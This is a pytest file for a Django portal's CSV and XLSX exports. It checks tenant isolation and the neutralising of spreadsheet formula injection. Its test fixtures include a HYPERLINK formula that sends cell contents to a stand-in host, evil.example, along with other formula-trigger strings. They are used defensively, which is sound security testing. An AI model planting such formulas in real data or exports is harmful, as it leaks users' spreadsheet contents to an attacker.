"""Every list downloads as CSV and XLSX, holding exactly the rows the user may see."""

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
import tablib
from django.urls import reverse
from django_scopes import scopes_disabled

from network.models import ExpertiseArea
from partnerships.models import Grouping
from samen import exports

LISTS = [
    "placements:list",
    "partnerships:school_list",
    "partnerships:partner_list",
    "partnerships:grouping_list",
    "roles:person_list",
    "network:certificate_list",
    "network:training_overview",
    "network:expertise_directory",
    "network:body_list",
]


@pytest.fixture
def world(samen, other):
    for tenant, name in ((samen, "Zonnebloem"), (other, "Kraanvogel")):
        with scopes_disabled():
            Grouping.objects.create(
                partnership=tenant.partnership, kind="cluster", name=f"Cluster {name}"
            )
            area = ExpertiseArea.objects.create(
                partnership=tenant.partnership, name=f"Rekenen {name}"
            )
            tenant.people["mentor"].expertise.add(area)
    return samen


@pytest.mark.parametrize("name", LISTS)
def test_csv_export_downloads_this_partnerships_rows_only(client_for, world, name):
    client = client_for(world.users["coordinator"])
    response = client.get(reverse(name, args=[world.partnership.slug]), {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment;" in response["Content-Disposition"]
    text = response.getvalue().decode("utf-8-sig")
    assert len(text.splitlines()) >= 1  # at least the header row
    assert "Kraanvogel" not in text


@pytest.mark.parametrize(
    "name", ["placements:list", "partnerships:grouping_list", "network:expertise_directory"]
)
def test_xlsx_export_opens_in_a_spreadsheet_with_the_rows(client_for, world, name):
    client = client_for(world.users["coordinator"])
    response = client.get(reverse(name, args=[world.partnership.slug]), {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.getvalue())).active
    cells = [str(c.value) for row in sheet.iter_rows() for c in row if c.value]
    assert any("Zonnebloem" in c for c in cells)
    assert not any("Kraanvogel" in c for c in cells)


def test_mentor_exports_only_their_own_placements(client_for, samen):
    from tests import factories as f

    with scopes_disabled():
        f.PlacementFactory(
            partnership=samen.partnership, school=samen.school, student__last_name="Vreemdeling"
        )
    client = client_for(samen.users["mentor"])
    text = (
        client.get(reverse("placements:list", args=[samen.partnership.slug]), {"export": "csv"})
        .getvalue()
        .decode("utf-8-sig")
    )
    assert samen.people["student"].last_name in text
    assert "Vreemdeling" not in text


# --- formulas never leave the portal alive ------------------------------------------------------

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+31 6 1234",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
]


@pytest.fixture
def hostile(samen):
    """People of `samen` whose whole name is a formula, found back by e-mail address."""
    from tests import factories as f

    with scopes_disabled():
        for i, name in enumerate(HOSTILE_NAMES):
            f.PersonFactory(
                partnership=samen.partnership,
                first_name=name,
                last_name="",
                email=f"formule{i}@example.org",
                phone="-2+3" if i == 0 else "",
            )
    return samen


def export(client_for, tenant, fmt):
    client = client_for(tenant.users["coordinator"])
    response = client.get(
        reverse("roles:person_list", args=[tenant.partnership.slug]), {"export": fmt}
    )
    assert response.status_code == 200
    return response.getvalue()


def test_the_people_csv_neutralises_every_formula_and_opens_in_dutch_excel(client_for, hostile):
    body = export(client_for, hostile, "csv")
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM
    text = body.decode("utf-8-sig")
    assert text.startswith("Naam;E-mailadres;Telefoon;Rollen dit schooljaar;Account\r\n")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    by_email = {row[1]: row for row in rows[1:]}
    for i, name in enumerate(HOSTILE_NAMES):
        assert by_email[f"formule{i}@example.org"][0] == "'" + name
    assert by_email["formule0@example.org"][2] == "'-2+3"
    # No cell of the file starts a formula.
    for row in rows:
        for cell in row:
            assert cell[:1] not in exports.FORMULA_TRIGGERS, cell
    assert "Mentor Zonnebloemmentor" in by_email["mentor@samen-test.test"][0]


def test_the_people_xlsx_holds_no_formula_cell_at_all(client_for, hostile):
    body = export(client_for, hostile, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = {row[1].value: row[0].value for row in sheet.iter_rows(min_row=2) if row[1].value}
    for i, name in enumerate(HOSTILE_NAMES):
        # XML reads a carriage return back as a line feed; the apostrophe leads either way.
        assert names[f"formule{i}@example.org"] == "'" + name.replace("\r", "\n")
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            xml = archive.read(name).decode()
            assert "<f>" not in xml and "<f " not in xml
            assert "HYPERLINK" in xml  # the text is there, as text


def test_numbers_dates_and_plain_numeric_text_are_not_altered():
    data = tablib.Dataset(headers=["Tekst", "Getal", "Datum"])
    data.append(["-5", -5, dt.date(2025, 9, 1)])
    data.append(["+31", Decimal("12.50"), None])
    data.append(["#N/A", 2.5, dt.datetime(2025, 9, 1, 8, 30, tzinfo=dt.UTC)])
    data.append(["bell\x07 =x", 0, ""])

    text = exports.download(data, "csv", "test").getvalue().decode("utf-8-sig")
    assert text.splitlines() == [
        "Tekst;Getal;Datum",
        "-5;-5;2025-09-01",
        "+31;12,50;",
        "#N/A;2,5;2025-09-01 10:30",
        "bell\x07 =x;0;",
    ]

    book = exports.download(data, "xlsx", "test").getvalue()
    sheet = openpyxl.load_workbook(io.BytesIO(book)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[1] == ("-5", -5, dt.datetime(2025, 9, 1))
    assert rows[2] == ("+31", 12.5, None)
    assert rows[3] == ("#N/A", 2.5, dt.datetime(2025, 9, 1, 10, 30))
    assert rows[4] == ("bell =x", 0, None)  # a character XML cannot hold is dropped
    assert sheet["A4"].data_type == "s"  # "#N/A" is text, not an error value
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.b


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("  =1+1", "'  =1+1"),
        ("＝1+1", "'＝1+1"),
        ("\x00=1", "'\x00=1"),
        ("-", "'-"),
        ("-5", "-5"),
        ("+31", "+31"),
        ("12,5", "12,5"),
        ("Jan-Willem", "Jan-Willem"),
        ("'al veilig", "'al veilig"),
        ("", ""),
    ],
)
def test_neutralise(text, shown):
    assert exports.neutralise(text) == shown


def test_csv_cells_with_separators_quotes_and_newlines_are_quoted():
    data = tablib.Dataset(headers=["a", "b"])
    data.append(['Jansen; "de" Vries', "twee\nregels"])
    text = exports.download(data, "csv", "x").getvalue().decode("utf-8-sig")
    assert text == 'a;b\r\n"Jansen; ""de"" Vries";"twee\nregels"\r\n'
